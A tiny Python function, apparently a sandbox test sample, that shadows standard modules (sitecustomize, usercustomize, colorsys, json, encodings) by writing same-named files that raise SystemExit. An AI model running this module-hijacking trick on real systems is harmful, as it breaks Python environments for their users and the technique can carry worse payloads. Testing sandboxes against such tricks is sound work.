def attack():
    for name in ("sitecustomize", "usercustomize", "colorsys", "json", "encodings"):
        with open(name + ".py", "w") as file:
            file.write("raise SystemExit('a shadow')")
    return "written"
